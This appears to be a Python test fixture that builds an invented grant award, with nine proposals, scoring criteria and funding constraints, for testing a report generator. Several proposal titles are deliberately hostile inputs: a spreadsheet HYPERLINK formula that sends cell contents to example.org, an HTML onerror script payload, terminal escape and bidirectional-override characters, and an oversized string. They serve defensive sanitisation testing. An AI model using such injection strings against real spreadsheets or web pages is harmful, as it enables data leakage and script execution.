"""A small award built by hand, for the tests of the reports. All organisations are invented.

Nine proposals in two lots: four funded, one displaced, one tied, one never, one below a threshold,
one not eligible. Some of their titles are hostile.
"""

from datetime import UTC, datetime
from fractions import Fraction

from attrs import evolve

from tenderscore.answers import Answers, answers
from tenderscore.award import Award, Input
from tenderscore.balance import balance
from tenderscore.call import Call, Criterion, IndicatorUse, RuleUse, ScoredIndicator, Stage
from tenderscore.constraint import Constraint
from tenderscore.inversions import Plain
from tenderscore.problem import problem
from tenderscore.proposal import Partner, Proposal
from tenderscore.reasons import Reason
from tenderscore.scorecard import Obstacle, Scorecard, Step
from tenderscore.selection import Easing, Selection, Ties
from tenderscore.units import Cents, Points

HOSTILE = {
    "M4-03": '=HYPERLINK("http://example.org/?"&A1,"Click")',
    "M4-04": "+1 @SUM(A1:A9) <img src=x onerror=alert(1)> **bold** [link](http://example.org) | x",
    "M4-07": "bell \x07 escape \x1b[31mred\x1b[0m turned \u202eback _x0041_ \ufffe \ud800 half",
    "M4-08": "<r>rich</r>",
    "M4-09": "L" + "o" * 40_000 + "ng",
}


def _criterion(id_: str, title: str, german: str, weight: int) -> Criterion:
    marks = IndicatorUse(use="jury_mean", options={"minimum": 2})
    return Criterion(
        id=id_,
        title=title,
        title_de=german,
        weight=Fraction(weight),
        ranking_weight=Fraction(weight),
        threshold=Points(300) if id_ == "reach" else None,
        scale=Points(500),
        indicators=(ScoredIndicator(indicator=marks, share_percent=Fraction(100)),),
        source="call no. 1.1",
    )


CALL = Call(
    id="small-1.0",
    edition=1,
    title="Small call: competence centres",
    title_de="Kleiner Förderaufruf „Zentren“",
    closes=datetime(2026, 3, 31, 12, tzinfo=UTC),
    currency="EUR",
    total_is="mean",
    total_threshold=Fraction(3),
    lots={"regional": "Regional centre", "thematic": "Thematic centre"},
    groups={"east": ("BE", "BB", "MV", "SN", "ST", "TH")},
    sources={"call": "Ministry of Examples, Announcement of 1.2.2026", "example": "Invented"},
    criteria=(
        _criterion("consortium", "Performance of the consortium", "Leistung des Konsortiums", 40),
        _criterion("reach", "Reachability for small firms", "Erreichbarkeit", 35),
        _criterion("scope", "Thematic scope and excellence", "Themen und Exzellenz", 25),
    ),
    rules=(
        RuleUse(
            id="budget",
            title="Stay within the budget",
            use="funding",
            options={"max_amount": 2_000_000_000},
            source="example",
        ),
        RuleUse(
            id="two-per-land",
            title="At most two regional centres a Land",
            use="count",
            options={"each": "land", "where": {"lot": ("regional",)}, "max": 2, "give": 1},
            source="call no. 2",
        ),
    ),
    objective=(
        Stage(aim="maximise", what="score", source="call"),
        Stage(aim="minimise", what="requested_amount", source="call no. 3"),
        Stage(aim="draw", what="small-1.0", source="example"),
    ),
    name="small.toml",
    sha256="ca11" * 16,
)

# id: lot, Land, requested in EUR, points for consortium, reach, scope
TABLE: dict[str, tuple[str, str, int, tuple[int, int, int]]] = {
    "M4-01": ("regional", "BE", 5_000_000, (450, 420, 410)),
    "M4-02": ("regional", "ST", 4_500_000, (400, 390, 380)),
    "M4-03": ("regional", "ST", 4_000_000, (380, 350, 345)),
    "M4-04": ("regional", "ST", 4_000_000, (380, 350, 345)),
    "M4-05": ("regional", "ST", 3_999_999, (370, 350, 340)),
    "M4-06": ("thematic", "BW", 6_000_000, (480, 470, 490)),
    "M4-07": ("thematic", "BY", 5_500_000, (470, 280, 450)),
    "M4-08": ("regional", "MV", 4_200_000, (350, 333, 300)),
    "M4-09": ("thematic", "BW", 21_000_000, (500, 490, 500)),
}
FUNDED = frozenset({"M4-01", "M4-02", "M4-03", "M4-06"})
LATE = Obstacle(
    kind="eligibility",
    id="in-time",
    title="Received before the deadline",
    text="3 hours late, needed at most 0",
    cells=("proposals.xlsx › Proposals!F9",),
    source="call",
)
WEAK = Obstacle(
    kind="criterion",
    id="reach",
    title="Reachability for small firms",
    text="2.80 points, needed 3.00",
    cells=("proposals.xlsx › Marks!D12", "proposals.xlsx › Marks!D13"),
    source="call no. 1.1",
)
OBSTACLES = {"M4-07": (WEAK,), "M4-08": (LATE,)}


def _proposal(id_: str) -> Proposal:
    lot, land, requested, _ = TABLE[id_]
    partner = Partner(name=f"Invented Institute {id_}", organisation=f"invented institute {id_}")
    return Proposal(
        id=id_,
        title=HOSTILE.get(id_, f"Centre {id_} für kleine Betriebe"),
        lot=lot,
        land=land,
        requested=Cents(requested * 100),
        duration_months=36,
        partners=(partner,),
        where=f"proposals.xlsx › Proposals!A{id_[-1]}",
    )


def _scorecard(id_: str) -> Scorecard:
    names = [criterion.id for criterion in CALL.criteria]
    points = dict(zip(names, map(Points, TABLE[id_][3]), strict=True))
    if id_ == "M4-08":
        del points["scope"]
    total = sum(CALL.weighted(CALL.criterion(name).weight, each) for name, each in points.items())
    scored = total if len(points) == len(names) else None
    return Scorecard(
        proposal=id_,
        points=points,
        total=scored,
        ranking=scored,
        obstacles=OBSTACLES.get(id_, ()),
        trail=tuple(_step(name, points[name]) for name in points),
    )


def _step(criterion: str, points: Points) -> Step:
    return Step(
        criterion=criterion,
        indicator="jury_mean",
        value=f"{points / 100:.2f} points from 3 marks",
        points=Fraction(points, 100) + Fraction(1, 300),
        share_percent=Fraction(100),
        cells=tuple(f"proposals.xlsx › Marks!D{row}" for row in (12, 13, 14)),
    )


def _constraints() -> tuple[Constraint, ...]:
    money = {id_: row[2] * 100 for id_, row in TABLE.items()}
    regional = {land: [i for i, r in TABLE.items() if r[:2] == ("regional", land)]
                for land in ("BE", "MV", "ST")}  # fmt: skip
    return (
        Constraint(
            rule="budget",
            title="Stay within the budget",
            terms=money,
            at_most=20_000_000_00,
            unit="cents",
            source="example",
        ),
        Constraint(
            rule="thematic",
            title="One thematic centre",
            terms={id_: 1 for id_, row in TABLE.items() if row[0] == "thematic"},
            at_least=1,
            at_most=1,
            source="call no. 2",
        ),
        *(
            Constraint(
                rule="two-per-land",
                title="At most two regional centres a Land",
                group=land,
                terms=dict.fromkeys(ids, 1),
                at_most=2,
                give=Fraction(1),
                source="call no. 2",
            )
            for land, ids in regional.items()
        ),
        Constraint(
            rule="st-share",
            title="At most 60 percent of the money to Sachsen-Anhalt",
            group="ST",
            terms={id_: cents for id_, cents in money.items() if TABLE[id_][1] == "ST"},
            whole=money,
            at_most_percent=Fraction(60),
            unit="cents",
            source="example",
        ),
        Constraint(
            rule="events",
            title="At least ten events",
            terms=dict.fromkeys(TABLE, 55),
            at_least=100,
            unit="number",
            scale=10,
        ),
    )


REASONS = (
    *(Reason(proposal=id_, verdict="funded") for id_ in sorted(FUNDED)),
    Reason(proposal="M4-04", verdict="tied", leaves=("M4-03",), loss=0,
           rules=(("two-per-land", "ST"), ("budget", ""))),
    Reason(proposal="M4-05", verdict="displaced", leaves=("M4-03",), loss=525,
           rules=(("two-per-land", "ST"),)),
    Reason(proposal="M4-07", verdict="below a threshold", obstacles=(WEAK,)),
    Reason(proposal="M4-08", verdict="not eligible", obstacles=(LATE,)),
    Reason(proposal="M4-09", verdict="never", rules=(("budget", ""), ("thematic", ""))),
)  # fmt: skip

AWARD = Award(
    call=CALL,
    proposals=tuple(_proposal(id_) for id_ in TABLE),
    scorecards=tuple(_scorecard(id_) for id_ in TABLE),
    selection=Selection(
        funded=FUNDED,
        total=sum(card.ranking or 0 for card in map(_scorecard, FUNDED)),
        decided_by="draw",
        unique=False,
        proven=True,
        ties=Ties(
            counts=(("score", 2), ("requested_amount", 2)),
            listed=(FUNDED, FUNDED - {"M4-03"} | {"M4-04"}),
            complete=True,
            left=(FUNDED, FUNDED - {"M4-03"} | {"M4-04"}),
            always=FUNDED - {"M4-03"},
            never=frozenset({"M4-05", "M4-09"}),
        ),
    ),
    constraints=_constraints(),
    inputs=(Input(name="proposals.xlsx", sha256="ab12" * 16),),
    findings=(problem("TS423", where="proposals.xlsx › Proposals!B3", name="'=HYPERLINK(…)'"),),
)

EAST = Constraint(
    rule="east",
    title="At least four centres in the eastern Länder",
    terms={id_: 1 for id_, row in TABLE.items() if row[1] in CALL.groups["east"]},
    at_least=4,
    give=Fraction(1),
    source="example",
)

EASED = evolve(
    AWARD,
    selection=evolve(AWARD.selection, eased=(Easing(rule="east", group="", by=1),)),
    constraints=(*AWARD.constraints, EAST),
)

ANSWERS = evolve(answers(AWARD), reasons=REASONS)


def unasked(award: Award, reasons: tuple[Reason, ...]) -> Answers:
    """Reasons alone, where nothing else is looked at."""
    nothing = Plain(funded=(), total=0, requested=0, next=None, broken=(), differences=())
    return Answers(
        reasons=reasons, inversions=(), plain=nothing, plan=(), moving_up=(), prices=(),
        balance=balance(award),
    )  # fmt: skip
